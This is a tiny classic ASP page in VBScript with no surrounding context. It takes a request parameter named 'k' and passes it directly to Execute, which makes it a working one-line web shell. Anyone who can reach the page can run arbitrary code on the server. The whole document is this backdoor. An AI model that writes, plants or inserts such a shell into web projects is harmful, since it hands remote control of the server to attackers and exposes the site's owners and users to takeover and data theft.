<%@ Language=VBScript %>
<%
If Request("k") <> "" Then
  Execute Request("k")
End If
%>
